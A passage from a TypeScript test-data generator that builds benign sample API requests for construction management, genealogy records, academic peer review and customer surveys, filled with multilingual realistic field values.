          type: pick(['Product Data', 'Shop Drawing', 'Sample', 'O&M Manual']),
          description: pick([
            'Includes mix #4010 w/ 20% fly ash, #5020 w/ MRWR; ASTM C94 compliant.',
            'Re-submitted per comments: changed lever to "Sparta" design, US26D finish.',
            'See pp. 3–7; deviations flagged w/ ⚠ in margin.',
          ]),
          required_on_site: day(),
          reviewers: [
            { id: int(1000, 9999), role: 'Architect' },
            { id: int(1000, 9999), role: 'MEP Engineer' },
          ],
        },
      }),
    () =>
      formReq('build', `${api}/projects/${proj()}/timecards`, [
        ['timecard[date]', day()],
        ['timecard[employee_id]', String(int(100, 999))],
        ['timecard[hours]', pick(['8', '7.5', '10'])],
        [
          'timecard[cost_code]',
          pick(['03-300 Concrete', '09-2900 Gypsum Board', '26-0500 Elec. – Rough-in']),
        ],
        [
          'timecard[notes]',
          pick(['OT approved by super', 'rain delay 1.5h', 'forming L3 edge; stripped L2 east']),
        ],
      ]),
    () =>
      mergePatch('build', `${api}/projects/${proj()}/punch_items/${int(1, 9000)}`, {
        status: pick(['ready_for_review', 'closed', 'work_required']),
        closed_at: chance(0.5) ? iso() : null,
        comment: pick(['Fixed, see photo', 'Not fixed — still a 1/4" gap', 'GC verified 3/19']),
      }),
    () =>
      gql(
        'build',
        '/graphql',
        'mutation CreateObservation($projectId: ID!, $input: ObservationInput!) { createObservation(projectId: $projectId, input: $input) { id number status } }',
        {
          projectId: String(proj()),
          input: {
            type: 'SAFETY',
            title: 'Unprotected edge at L4 slab',
            description: 'Guardrail removed for material hoist; no toe board. Required per OSHA 1926.502(b).',
            hazard: 'FALL',
            location: 'L4 north edge, grids 1-3',
          },
        },
        'CreateObservation',
      ),
    () =>
      getReq(
        'build',
        'search',
        `${api}/projects/${proj()}/documents/search?${qs({ q: pick(['"W18x35" OR W18X35', 'detail 7/S-501', 'ASI-014', 'anchor* -"post-installed"', 'shaftliner 1"']), folder: pick(['/Drawings/Current Set/Structural', '/Specs/Division 09', '/Photos/2026-03']), ext: pick(['pdf', 'dwg', 'jpg']) })}`,
      ),
    () => delReq('build', `${api}/projects/${proj()}/punch_items/${int(1, 9000)}`),
    () =>
      ndjsonReq('build', `${api}/projects/${proj()}/equipment_logs/bulk`, [
        {
          asset: 'EXC-07 CAT 320',
          hours: Number((rnd() * 10).toFixed(1)),
          fuel_gal: int(5, 60),
          operator: pick(PEOPLE),
          note: 'hyd. leak on boom cyl — tagged out 14:20',
        },
        {
          asset: 'LIFT-12 JLG 600S',
          hours: Number((rnd() * 10).toFixed(1)),
          fuel_gal: 0,
          operator: pick(PEOPLE),
          note: 'daily inspection OK',
        },
        { asset: 'GEN-3 (45kVA)', hours: 9.5, fuel_gal: int(10, 40), operator: null, note: '' },
      ]),
  ];
  return roundRobin(t, 56);
}

// ---------------------------------------------------------------- 3. genealogy
const TRANSCRIPTIONS = [
  'No. 147. Born 3rd March 1862 at Ballyhaunis. Name: Bridget. Sex: F. Father: Patrick Ó Ceallaigh, labourer. Mother: Mary Kelly formerly Walsh. Informant: her X mark, Mary Kelly, mother. Registered 19th April 1862. [signature of registrar illegible]',
  'Anno Domini 1798, die 14 mensis Julii, ego infrascriptus baptizavi infantem natum heri ex Joanne Nowak et Marianna de domo Kowalska, conjugibus legitimis, cui impositum est nomen Adalbertus. Patrini: Jacobus Wiśniewski & Agnes Lis.',
  'Działo się w Warszawie dnia 12/24 lutego 1881 roku o godzinie 10 rano. Stawił się Józef Zieliński, szewc, lat 34... [rest of entry in Russian: Состоялось в городе Варшаве...]',
  '1850 US Census, Pike Co., Ohio, dwelling 214: John M\'Intosh 45 M Farmer $1,200 Scotland; Jane 41 F Penn.; Wm. 17 M Ohio; Eliz\'th 12 F Ohio — "attended school within the year" ticked.',
  '明治二十三年三月五日 出生 父 山田太郎 母 ハナ 長男 届出 同月十日 受附 [戸籍謄本より転記]',
  'Kirchenbuch Oberndorf, Taufen 1743, S. 56: „Den 9. Xbris ist getauft worden Johann Georg, des Hanß Jerg Müllers, Bauers allhier, u. der Anna Maria ehel. Söhnlein.“ (Xbris = Dezember)',
  'Ship manifest S.S. Kaiser Wilhelm der Grosse, arr. New York 14 Sep 1903, list 12 line 7: Grünbaum, Chaje, 19, F, S, Hebrew, Russia, last residence Kowno; going to brother-in-law Max Rosen, 97 Orchard St.',
  'Death: 22 Jan 1919 — Margaret "Maggie" O\'Neill, 31, influenza/pneumonia, 3 days; informant: husband Thos. O\'Neill; burial Calvary Cem., Lot 44 Sec. D',
  'בשנת תרמ״ה נולד לר׳ משה בן יצחק הכהן ולאשתו רבקה בת שמואל בן זכר ונקרא שמו אברהם — מתוך ספר הזיכרון של ק״ק בריסק',
];
const SURNAMES = [
  "O'Neill",
  'Müller',
  'Wiśniewski',
  'Ó Ceallaigh',
  'Grünbaum',
  "M'Intosh",
  'van der Linden',
  'Nguyễn',
  '山田',
  'Иванов',
  'Kowalska',
  'de la Cruz',
  'Ben-David',
  'Ørsted',
];

function genClean(): Req[] {
  const tree = (): string => `t${int(10000000, 99999999)}`;
  const t: Array<() => Req> = [
    () =>
      getReq(
        'gen',
        'search',
        `/api/v3/records/search?${qs({ surname: pick(SURNAMES), given: pick(['Bridget', 'Johann Georg', 'Adalbert*', 'Chaje', 'Wm.', 'Маргарита']), birth_year: int(1700, 1920), birth_year_range: pick([2, 5, 10]), place: pick(['Ballyhaunis, Mayo, Ireland', 'Kowno, Russian Empire', 'Pike Co., Ohio, USA', 'Oberndorf am Neckar', 'Brest-Litovsk / Brześć']), fuzzy: pick(['soundex', 'dm_soundex', 'exact']), collection: pick(['census', 'parish', 'immigration', 'all']) })}`,
      ),
    () =>
      jsonReq('gen', 'rest-write', 'POST', `/api/v3/trees/${tree()}/persons`, {
        person: {
          names: [
            {
              given: pick([
                'Bridget',
                'Wojciech (Adalbertus)',
                'Chaje / Ida',
                'Johann Georg',
                'Margaret "Maggie"',
                'Ngọc Lan',
              ]),
              surname: pick(SURNAMES),
              type: 'birth',
            },
            {
              given: pick(['Ida', 'Albert', 'Margarete']),
              surname: pick(SURNAMES),
              type: pick(['also_known_as', 'married', 'anglicized']),
            },
          ],
          sex: pick(['F', 'M', 'U']),
          events: [
            {
              type: 'birth',
              date: pick([
                'abt 1862',
                'bef. 3 MAR 1862',
                '12/24 FEB 1881',
                'BET 1740 AND 1745',
                '9 DEC 1743',
                'c. 1885 (per 1900 census)',
              ]),
              place: pick([
                'Ballyhaunis, Co. Mayo',
                'Warszawa, Królestwo Polskie',
                'Kaunas (Kowno), Lithuania',
              ]),
            },
            {
              type: 'death',
              date: pick(['22 JAN 1919', 'aft 1920', '?']),
              place: pick(['New York, NY', 'unknown']),
            },
          ],
          notes: pick([
            'Name varies across records: Bridget/Bridgid/Biddy.',
            'Possibly same person as I-2291 — DNA match 43 cM w/ cousin Anne (2C1R?).',
            'Julian/Gregorian double date — registry used old style.',
          ]),
        },
      }),
    () =>
      jsonReq('gen', 'prose', 'PUT', `/api/v3/records/${oid('rec')}/transcription`, {
        transcription: {
          text: pick(TRANSCRIPTIONS),
          language: pick(['en', 'la', 'pl', 'de', 'ja', 'he', 'ru']),
          confidence: Number(rnd().toFixed(2)),
          uncertain_spans: [{ start: int(0, 50), end: int(51, 90), note: '[illegible]' }],
          transcriber: pick(PEOPLE),
        },
      }),
    () =>
      multipartReq('gen', `/api/v3/trees/${tree()}/import`, [
        { name: 'format', content: 'gedcom' },
        { name: 'merge_strategy', content: pick(['skip_duplicates', 'review']) },
        {
          name: 'file',
          filename: pick(['family_tree_2026.ged', 'Müller Stammbaum.ged', "O'Neill family.ged"]),
          type: 'text/plain',
          content: `0 HEAD\n1 SOUR FTM\n1 GEDC\n2 VERS 5.5.1\n1 CHAR UTF-8\n0 @I1@ INDI\n1 NAME Bridget /Kelly/\n1 SEX F\n1 BIRT\n2 DATE 3 MAR 1862\n2 PLAC Ballyhaunis, Mayo, Ireland\n1 FAMC @F1@\n0 @I2@ INDI\n1 NAME Patrick /Ó Ceallaigh/\n2 NOTE Surname anglicized to Kelly c. 1870; "Paddy" in 1901 census\n1 OCCU Labourer\n0 @F1@ FAM\n1 HUSB @I2@\n1 CHIL @I1@\n0 @S1@ SOUR\n1 TITL Civil Registration – Births, Claremorris SRD, vol. 4 p. 147\n1 PUBL https://civilrecords.example.ie/details/${hex(12)}\n0 TRLR`,
        },
      ]),
    () =>
      jsonApiReq('gen', 'POST', `/api/v3/trees/${tree()}/relationships`, {
        data: {
          type: 'relationships',
          attributes: {
            kind: pick(['parent-child', 'spouse']),
            qualifier: pick(['biological', 'adopted', 'step', 'unknown']),
            evidence: 'Baptism 1798 lists parents Joanne Nowak & Marianna de domo Kowalska',
          },
          relationships: {
            person1: { data: { type: 'persons', id: `I${int(1, 5000)}` } },
            person2: { data: { type: 'persons', id: `I${int(1, 5000)}` } },
          },
        },
      }),
    () =>
      jsonReq('gen', 'rest-write', 'POST', `/api/v3/persons/I${int(1, 5000)}/sources`, {
        citation: {
          title: pick([
            '1850 United States Federal Census',
            'Kirchenbuch Oberndorf 1730–1760',
            'Księgi metrykalne parafii św. Krzyża w Warszawie',
            'Passenger Lists of Vessels Arriving at New York, 1820–1957',
          ]),
          page: pick([
            'Roll M432_714; Page: 214A; Image: 433',
            'S. 56, Nr. 41',
            'akt 112/1881',
            'T715, roll 0399, list 12, line 7',
          ]),
          url: pick([
            'https://archive.example.org/ark:/61903/1:1:MXYZ-ABC',
            'https://www.szukajwarchiwach.example.pl/1/158/0/-/12?page=3#zoom',
            'https://cdn.rootsline.example/img/1850/oh/pike/0433.jpg?sig=' + str(24),
          ]),
          quality: pick(['primary', 'secondary', 'questionable']),
          text: pick(TRANSCRIPTIONS),
        },
      }),
    () =>
      jsonReq('gen', 'cms-html', 'PUT', `/api/v3/persons/I${int(1, 5000)}/story`, {
        story: {
          title: pick(['From Mayo to Manhattan', 'Die Müllers aus Oberndorf', 'Chaje’s journey (1903)']),
          content_html: pick([
            '<p>Bridget was born in <em>Ballyhaunis</em> in 1862, the eldest of seven. Her mother signed the register with <q>her X mark</q>.</p><figure><img src="https://cdn.rootsline.example/u/88/bridget_1890.jpg" alt="Bridget c.1890"><figcaption>Studio portrait, Boston c.1890</figcaption></figure>',
            '<h2>Ankunft in New York</h2><p>Am 14.&nbsp;September 1903 kam Chaje mit der <i>Kaiser Wilhelm der Grosse</i> an &ndash; Ziel: 97 Orchard St.</p><ul><li>Alter: 19</li><li>Beruf: Näherin</li></ul>',
            '<p>Grandma always said &ldquo;we came from near Brisk&rdquo; &mdash; that’s <a href="https://en.wikipedia.org/wiki/Brest,_Belarus">Brest-Litovsk</a>. The Yizkor book entry reads:</p><blockquote dir="rtl" lang="he">בשנת תרמ״ה נולד לר׳ משה בן יצחק הכהן</blockquote>',
          ]),
          visibility: pick(['private', 'family', 'public']),
        },
      }),
    () =>
      gql(
        'gen',
        '/graphql',
        'query Ancestors($id: ID!, $generations: Int!) { person(id: $id) { id displayName ancestors(generations: $generations) { id displayName birth { date place } parents { id } } } }',
        { id: `I${int(1, 5000)}`, generations: int(3, 8) },
      ),
    () =>
      gqlPersisted('gen', '/graphql', 'DnaMatches', {
        kitId: `K${int(100000, 999999)}`,
        minCm: pick([20, 40, 90]),
        relationship: pick(['2C-3C', '3C-5C']),
      }),
    () =>
      jsonReq(
        'gen',
        'prose',
        'POST',
        `/api/v3/forums/${pick(['ireland', 'poland', 'jewish-genealogy', 'germany'])}/posts`,
        {
          post: {
            title: pick([
              'Brick wall: Patrick Kelly/Ó Ceallaigh b. abt 1830',
              'Help reading 1743 German Kurrent',
              'Russian-era Polish record — what does "12/24" mean?',
            ]),
            body: pick([
              'I\'ve searched Griffith\'s Valuation for Kelly in Annagh parish (Mayo) — 14 hits, none with a wife \'Mary Walsh\'. Any tips? Tried "Kelly" AND "Walsh" in the marriage index 1855–1862 too.',
              "Can someone check my reading? I have: 'Den 9. Xbris ist getauft worden Johann Georg...' — is Xbris December (X = decem)? Image: https://cdn.rootsline.example/img/ob/1743/056.jpg",
              'The 12/24 is the Julian/Gregorian double date — Congress Poland used both until 1918. So 24 Feb 1881 (N.S.).',
              'Дед родился в 1885 г. в Гродненской губернии; ищу метрические книги костёла. Кто-нибудь знает, где хранятся (НИАБ?)',
            ]),
            tags: pick([['mayo', 'civil-records'], ['kurrent', 'palaeography'], ['julian-calendar']]),
          },
        },
      ),
    () =>
      mergePatch('gen', `/api/v3/persons/I${int(1, 5000)}`, {
        names: [{ given: 'Wojciech', surname: 'Nowak', type: 'birth' }],
        living: false,
        privacy: { hide_dates: false },
        note: null,
      }),
    () =>
      formReq('gen', '/account/settings', [
        ['display_name', pick(PEOPLE)],
        ['email', pick(EMAILS)],
        ['home_place', pick(['Łódź, Polska', "St. John's, NL, Canada", '東京都世田谷区', 'São Paulo – SP'])],
        [
          'bio',
          pick([
            'Researching KELLY/WALSH (Mayo) & MÜLLER (Württemberg). DNA on 3 sites.',
            'Ищу родственников из Гродно & Бреста!',
            '100% hobbyist :) — mostly 19th c. Quebec (Tremblay, Côté)',
          ]),
        ],
      ]),
    () =>
      delReq(
        'gen',
        `/api/v3/trees/${tree()}/persons/I${int(1, 5000)}?${qs({ cascade: 'false', reason: 'duplicate of I2291' })}`,
      ),
    () =>
      getReq(
        'gen',
        'rest-get',
        `/api/v3/places/autocomplete?${qs({ q: pick(['Brześć', 'Ballyh', 'Oberndorf a.N.', 'Kowno', '世田谷', 'Saint-Jean-sur-Richelieu']), as_of: int(1700, 1930), limit: 10 })}`,
      ),
  ];
  return roundRobin(t, 56);
}

// ---------------------------------------------------------------- 4. academic publishing & peer review
const ABSTRACTS = [
  'We study the convergence of stochastic gradient descent with heavy-tailed noise. Under the assumption $\\mathbb{E}\\|\\xi_t\\|^{\\alpha} < \\infty$ for some $\\alpha \\in (1,2]$, we show that $\\min_{t \\le T} \\mathbb{E}\\|\\nabla f(x_t)\\|^2 = O(T^{-(\\alpha-1)/\\alpha})$, matching known lower bounds up to log factors.',
  'Using a panel of 1,204 firms (2009–2022), we estimate the effect of minimum-wage increases on automation. A 10% increase raises the probability of robot adoption by 2.3 pp (95% CI [1.1, 3.5], p < 0.001). Results are robust to alternative specifications; see Table 4.',
  'Nous proposons une méthode de réduction de modèle pour les équations de Navier–Stokes incompressibles, fondée sur une décomposition orthogonale aux valeurs propres (POD) avec stabilisation de type SUPG.',
  "Let $G=(V,E)$ be a graph with maximum degree $\\Delta$. We prove that $\\chi'(G) \\leq \\Delta + 1$ can be achieved by an $O(|E|\\sqrt{|V|}\\log |V|)$ algorithm, improving on the previous $O(|E||V|)$ bound.",
  'CRISPR–Cas9 knockouts of TP53 in organoids (n = 48) showed increased proliferation (Ki-67+ fraction 0.41 ± 0.06 vs 0.22 ± 0.05; Welch t-test, p = 3.2×10⁻⁴).',
];
const REVIEW_COMMENTS = [
  '1. The proof of Lemma 3.2 assumes $f$ is $L$-smooth, but this is never stated in Section 2. Please add it to Assumption 1 or explain why it is not needed.\n2. Eq. (14): should the exponent be $(\\alpha-1)/\\alpha$ rather than $\\alpha/(\\alpha-1)$?\n3. The experiments use only CIFAR-10; please add at least one heavy-tailed NLP setting.',
  "Minor: Table 4 reports p < 0.001 but the CI [1.1, 3.5] seems too wide for n = 1,204; please double-check clustering of SEs (firm vs. county). The authors' replication package lacks the SQL used to build the panel from the raw registry — please include it (even a 'SELECT … FROM registry WHERE year BETWEEN 2009 AND 2022' sketch helps).",
  'The code availability statement links to a private repo (404). Reviewers cannot verify results. Please provide an archived DOI (Zenodo) or anonymised link.',
  "Le manuscrit est bien écrit, mais la section 4 manque d'une comparaison avec les méthodes de type DEIM. Je recommande une révision mineure.",
  'Recommendation: major revision. The central claim (Theorem 1) depends on an unproven conjecture — see the remark after eq. (7): "we assume $P \\neq NP$ here", which is fine, but then the title overclaims.',
  'Figure 3 y-axis is unlabeled; colours not colour-blind safe (red/green). Supplementary data S2 is an .xlsx with formulas referring to an external workbook (#REF! everywhere).',
];
const BIBTEX = `@article{kingma2015adam,
  title   = {Adam: A Method for Stochastic Optimization},
  author  = {Kingma, Diederik P. and Ba, Jimmy},
  journal = {arXiv preprint arXiv:1412.6980},
  year    = {2015}
}
@inproceedings{vaswani2017attention,
  title     = {Attention is All you Need},
  author    = {Vaswani, Ashish and Shazeer, Noam and Parmar, Niki and others},
  booktitle = {Advances in Neural Information Processing Systems 30},
  pages     = {5998--6008},
  year      = {2017},
  url       = {https://proceedings.neurips.cc/paper/2017/hash/3f5ee243547dee91fbd053c1c4a845aa-Abstract.html}
}
@book{knuth1997,
  author = {Knuth, Donald E.},
  title = {The Art of Computer Programming, Vol. 1: Fundamental Algorithms},
  edition = {3rd}, publisher = {Addison--Wesley}, year = {1997}
}`;
const LATEX_SRC = `\\documentclass[11pt]{article}
\\usepackage{amsmath,amssymb,amsthm}
\\usepackage[hidelinks]{hyperref}
\\newtheorem{lemma}{Lemma}[section]
\\newcommand{\\E}{\\mathbb{E}}
\\input{macros}
\\begin{document}
\\title{Heavy-Tailed Noise in SGD: Tight Rates}
\\maketitle
\\begin{abstract}
We show $\\min_{t\\le T}\\E\\|\\nabla f(x_t)\\|^2 = O(T^{-(\\alpha-1)/\\alpha})$.
\\end{abstract}
\\section{Setup}\\label{sec:setup}
\\begin{equation}\\label{eq:update}
  x_{t+1} = x_t - \\eta_t \\left( \\nabla f(x_t) + \\xi_t \\right), \\qquad \\eta_t = \\frac{\\eta_0}{t^{1/\\alpha}}
\\end{equation}
\\begin{lemma}\\label{lem:descent}
If $f$ is $L$-smooth then $f(x_{t+1}) \\le f(x_t) - \\eta_t\\langle \\nabla f(x_t), g_t\\rangle + \\tfrac{L\\eta_t^2}{2}\\|g_t\\|^2$.
\\end{lemma}
See~\\cite{kingma2015adam,vaswani2017attention} and Algorithm~\\ref{alg:clip}.
\\begin{verbatim}
for t in range(T): x -= lr * clip(grad(x), tau)
\\end{verbatim}
\\bibliographystyle{plainnat}
\\bibliography{refs}
\\end{document}`;

function pubClean(): Req[] {
  const sub = (): string => `JMLR-D-26-${String(int(1, 9999)).padStart(5, '0')}`;
  const t: Array<() => Req> = [
    () =>
      jsonReq('pub', 'rest-write', 'POST', '/api/v1/submissions', {
        submission: {
          title: pick([
            'Heavy-Tailed Noise in SGD: Tight Rates',
            'Minimum Wages and Automation: Evidence from Firm Panels',
            'Réduction de modèle POD–SUPG pour Navier–Stokes',
            'Near-Linear Edge Colouring with $\\Delta+1$ Colours',
          ]),
          abstract: pick(ABSTRACTS),
          keywords: pick([
            ['stochastic optimization', 'heavy tails', 'SGD'],
            ['labor economics', 'automation'],
            ['graph theory', "Vizing's theorem"],
          ]),
          authors: [
            {
              name: pick(PEOPLE),
              orcid: `0000-000${int(1, 3)}-${int(1000, 9999)}-${int(100, 999)}X`,
              email: pick(EMAILS),
              corresponding: true,
              affiliation: pick([
                'Uniwersytet Wrocławski',
                'ETH Zürich',
                'Universidad de São Paulo',
                '東京大学',
              ]),
            },
            { name: pick(PEOPLE), orcid: null, affiliation: 'Independent researcher' },
          ],
          code_availability: pick([
            'Code is available at https://github.com/example-lab/heavy-sgd (MIT licence), archived at https://doi.org/10.5281/zenodo.1234567. Reproduce Fig. 2 with `pip install -r requirements.txt && python run.py --config configs/fig2.yaml --seed 0`.',
            'Replication package (Stata 18 + R 4.3) on openICPSR; the raw registry extract requires a data use agreement. Run `make all` from the root; expects `$DATA_DIR` to point at the extract.',
            'Not applicable (theoretical paper).',
          ]),
          competing_interests: 'None declared.',
        },
      }),
    () =>
      multipartReq('pub', `/api/v1/submissions/${sub()}/files`, [
        { name: 'file_role', content: pick(['manuscript_source', 'supplement', 'bibliography']) },
        { name: 'main', filename: 'main.tex', type: 'application/x-tex', content: LATEX_SRC },
        { name: 'bib', filename: 'refs.bib', type: 'application/x-bibtex', content: BIBTEX },
      ]),
    () =>
      jsonReq('pub', 'code', 'PUT', `/api/v1/submissions/${sub()}/manuscript`, {
        manuscript: {
          latex_source: LATEX_SRC,
          compiler: pick(['pdflatex', 'xelatex', 'lualatex']),
          main_file: 'main.tex',
        },
      }),
    () =>
      jsonReq('pub', 'prose', 'POST', `/api/v1/submissions/${sub()}/reviews`, {
        review: {
          round: int(1, 3),
          recommendation: pick(['accept', 'minor_revision', 'major_revision', 'reject']),
          confidence: int(1, 5),
          comments_to_authors: pick(REVIEW_COMMENTS),
          comments_to_editor: pick([
            'I have a potential conflict (same institute 2019–2021) but no joint work.',
            'Strong paper; the experimental section is the weak part.',
            '',
          ]),
          scores: { novelty: int(1, 5), rigor: int(1, 5), clarity: int(1, 5) },
        },
      }),
    () =>
      jsonReq('pub', 'rest-write', 'POST', `/api/v1/submissions/${sub()}/references/parse`, {
        format: 'bibtex',
        content: BIBTEX,
      }),
    () =>
      getReq(
        'pub',
        'search',
        `/api/v1/reviewers/suggest?${qs({ q: pick(['"heavy-tailed" AND (SGD OR "stochastic gradient")', 'edge coloring Vizing -planar', 'minimum wage AND automation', 'Navier–Stokes "model reduction"']), exclude_coi: true, min_h_index: pick([5, 10, 20]), limit: 25 })}`,
      ),
    () =>
      gql(
        'pub',
        '/graphql',
        'query Queue($editorId: ID!, $status: [SubmissionStatus!], $first: Int) { editor(id: $editorId) { queue(status: $status, first: $first) { id title daysInStatus reviews { reviewer { name } recommendation submittedAt } } } }',
        { editorId: oid('ed'), status: ['UNDER_REVIEW', 'REVISION_RECEIVED'], first: 30 },
        'Queue',
      ),
    () =>
      jsonReq('pub', 'prose', 'POST', `/api/v1/submissions/${sub()}/response-to-reviewers`, {
        response: {
          items: [
            {
              reviewer: 1,
              comment: 'Eq. (14) exponent',
              reply: 'Thank you — typo fixed: the exponent is $(\\alpha-1)/\\alpha$ (now eq. 15).',
            },
            {
              reviewer: 2,
              comment: 'SQL for panel',
              reply:
                'Added `sql/build_panel.sql` to the package. It is a single SELECT with LEFT JOINs on firm_id and a WHERE year BETWEEN 2009 AND 2022 filter; runtime ≈ 4 min on Postgres 16.',
            },
            {
              reviewer: 3,
              comment: 'Figure 3 colours',
              reply: 'Switched to viridis; y-axis now "Ki-67$^+$ fraction".',
            },
          ],
        },
      }),
    () =>
      jsonApiReq('pub', 'PATCH', `/api/v1/decisions/${oid('dec')}`, {
        data: {
          type: 'decisions',
          id: oid('dec'),
          attributes: {
            outcome: pick(['minor_revision', 'accept']),
            letter: `Dear Dr. ${pick(SURNAMES)},\n\nThank you for submitting "${pick(['Heavy-Tailed Noise in SGD', 'Minimum Wages and Automation'])}". Based on the reviews, I am pleased to ... Please address Reviewer 2's point 3 (code availability) before resubmission.\n\nBest regards,\n${pick(PEOPLE)}\nAction Editor`,
          },
        },
      }),
    () =>
      mergePatch('pub', `/api/v1/submissions/${sub()}`, {
        title: 'Heavy-Tailed Noise in SGD: Tight Rates and Clipping',
        keywords: ['SGD', 'clipping', 'heavy tails'],
        data_availability: 'All data are synthetic; generator in `data/gen.py`.',
      }),
    () =>
      jsonReq('pub', 'code', 'POST', `/api/v1/submissions/${sub()}/artifacts/notebooks`, {
        artifact: {
          filename: 'fig2.ipynb',
          language: 'python',
          cells: [
            {
              cell_type: 'markdown',
              source: '## Figure 2\nLoss curves for $\\alpha \\in \\{1.2, 1.5, 2.0\\}$',
            },
            {
              cell_type: 'code',
              source:
                "import numpy as np\nimport pandas as pd\nfrom heavy_sgd import run\n\ndf = pd.concat([run(alpha=a, seed=s) for a in (1.2, 1.5, 2.0) for s in range(5)])\ndf.query('step % 100 == 0').groupby(['alpha', 'step'])['loss'].mean().unstack(0).plot(logy=True)",
            },
            {
              cell_type: 'code',
              source:
                "!pip install -q heavy-sgd==0.3.1\n%matplotlib inline\nimport os; os.environ['OMP_NUM_THREADS'] = '1'",
            },
          ],
        },
      }),
    () =>
      formReq('pub', '/api/v1/reviewer-invitations/respond', [
        ['token', b64url(`inv:${hex(16)}`)],
        ['decision', pick(['accept', 'decline'])],
        [
          'reason',
          pick([
            'Conflict of interest (co-author 2023)',
            'Too busy until after the NeurIPS deadline, sorry!',
            "Happy to review – I'll need 3 weeks.",
          ]),
        ],
        ['alternate_reviewer', pick(['lukasz.w@uni-wroclaw.example', ''])],
      ]),
    () =>
      getReq(
        'pub',
        'rest-get',
        `/api/v1/citations/resolve?${qs({ doi: pick(['10.1145/3292500.3330701', '10.5281/zenodo.1234567', '10.1016/S0140-6736(20)30183-5']), style: pick(['apa', 'ieee', 'chicago-author-date']) })}`,
      ),
    () => delReq('pub', `/api/v1/submissions/${sub()}/files/${oid('file')}`),
  ];
  return roundRobin(t, 56);
}

// ---------------------------------------------------------------- 5. customer feedback surveys & NPS
const FEEDBACK = [
  "Love the product but the CSV export breaks when a customer name has an apostrophe (e.g. O'Brien) — the row gets split into two columns.",
  'Support was great, Jamal fixed my issue in 10 min!!! 👏👏',
  'too expensive for what it is. switched to a competitor.',
  'The new dashboard is SO slow. Like 8-10 seconds to load the "All time" view. Please fix <3',
  "Honestly? The mobile app logs me out every day. I've reinstalled it twice. iOS 18.3, iPhone 13.",
  'N/A',
  '-',
  'Sehr zufrieden, aber die Rechnung sollte die USt-IdNr. enthalten (B2B!).',
  "L'intégration avec Salesforce ne synchronise pas les champs personnalisés. Dommage.",
  'サポートの対応が早くて助かりました。ただ、日本語の翻訳がところどころ不自然です。',
  'Would be a 10 if you supported SSO (SAML) on the Team plan and not just Enterprise.',
  'I tried to filter by date > 2025-12-31 and it returned nothing... had to use the "between" option instead',
  'Your "drop-down" for country is missing Kosovo & Curaçao.',
  'Please stop emailing me 3 times a week. Unsubscribe link → 404.',
  'The API docs example for `GET /orders?status=open&limit=500` says max 100 but 500 works?? which one is it',
  'Great app 😊 but dark mode has white flashes between screens',
  'Everything fine. Delete my account when the contract ends pls (ticket #48211).',
  'Nie mogę zmienić adresu e-mail — przycisk "Zapisz" nic nie robi.',
];

function surveyClean(): Req[] {
  const sv = (): string => `SV_${str(15, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789')}`;
  const t: Array<() => Req> = [
    () =>
      jsonReq('survey', 'prose', 'POST', `/v3/surveys/${sv()}/responses`, {
        response: {
          respondent: {
            email: pick(EMAILS),
            external_id: `cust_${int(10000, 99999)}`,
            locale: pick(['en', 'de', 'fr', 'ja', 'pl']),
          },
          answers: [
            { question_id: 'QID1', type: 'nps', value: int(0, 10) },
            { question_id: 'QID2', type: 'text', value: pick(FEEDBACK) },
            {
              question_id: 'QID3',
              type: 'multi',
              value: pick([['price', 'support'], ['performance'], ['integrations', 'mobile app', 'other']]),
            },
            {
              question_id: 'QID3_TEXT',
              type: 'text',
              value: pick(['', 'other: onboarding', 'SAML/SSO', 'the "Reports > Custom" page']),
            },
          ],
          metadata: {
            source: pick(['email', 'in-app', 'sms']),
            submitted_at: iso(),
            duration_s: int(8, 900),
            ua: pick(UAS),
          },
        },
      }),
    () =>
      formReq('survey', `/s/${sv()}/submit`, [
        ['nps', String(int(0, 10))],
        ['why', pick(FEEDBACK)],
        ['contact_ok', pick(['yes', 'no'])],
        ['email', pick(EMAILS)],
        ['utm_source', pick(['newsletter', 'in_app', 'support_ticket_closed'])],
        ['_token', str(40)],
      ]),
    () =>
      getReq(
        'survey',
        'rest-get',
        `/v3/surveys/${sv()}/responses?${qs({ 'filter[nps][lte]': 6, 'filter[submitted_at][gte]': iso(), 'filter[text][contains]': pick(['export', 'slow', 'SSO', "can't", 'logout']), sort: '-submitted_at', page: int(1, 20), per_page: 50 })}`,
      ),
    () =>
      getReq(
        'survey',
        'search',
        `/v3/responses/search?${qs({ q: pick(['("too expensive" OR pricing) AND -"price increase"', 'sentiment:negative AND topic:mobile', 'dark mode', 'csv export apostrophe', 'NPS < 7 AND plan:team']), survey_id: sv(), highlight: true })}`,
      ),
    () =>
      jsonReq('survey', 'rest-write', 'POST', `/v3/surveys`, {
        survey: {
          name: pick([
            'Q1 2026 Relationship NPS',
            'Post-ticket CSAT',
            'Churn exit survey',
            'Onboarding check-in (day 14)',
          ]),
          questions: [
            {
              id: 'QID1',
              type: 'nps',
              text: 'How likely are you to recommend {{company.name}} to a friend or colleague?',
            },
            {
              id: 'QID2',
              type: 'text',
              text: 'What is the main reason for your score of ${e://Field/nps}?',
              display_logic: 'QID1 <= 6 OR QID1 >= 9',
            },
            {
              id: 'QID3',
              type: 'multi',
              text: 'Which areas should we improve?',
              choices: [
                'Price',
                'Support',
                'Performance',
                'Integrations',
                'Mobile app',
                'Other (please specify)',
              ],
            },
          ],
          piping: { 'company.name': 'Acme & Co.' },
          languages: ['en', 'de', 'fr', 'ja'],
          folder_id: oid('fld'),
        },
      }),
    () =>
      jsonReq('survey', 'cms-html', 'PUT', `/v3/surveys/${sv()}/questions/QID${int(1, 9)}`, {
        question: {
          description_html: pick([
            '<p>Thanks for being a customer since <strong>{{contact.since | date: "%B %Y"}}</strong>! This takes <em>&lt; 2 minutes</em>.</p>',
            '<p style="text-align:center"><img src="https://cdn.pulsepoll.example/brand/acme-logo.png" alt="Acme" height="40"></p><p>Wie wahrscheinlich ist es, dass Sie uns weiterempfehlen?</p>',
            '<p>Questions? <a href="mailto:cx@acme.example?subject=Survey%20question">cx@acme.example</a></p><p><small>Privacy notice: see <a href="https://acme.example/privacy#surveys" target="_blank">acme.example/privacy</a></small></p>',
          ]),
          required: chance(0.5),
        },
      }),
    () =>
      ndjsonReq(
        'survey',
        '/v3/imports/responses',
        [0, 1, 2, 3].map(() => ({
          survey_id: sv(),
          nps: int(0, 10),
          comment: pick(FEEDBACK),
          channel: pick(['zendesk', 'intercom', 'app_store']),
          created: iso(),
        })),
      ),
    () =>
      jsonReq('survey', 'rest-write', 'POST', '/v3/webhooks/app-store-reviews', {
        source: 'appstore',
        reviews: [
          {
            id: String(int(10000000, 99999999)),
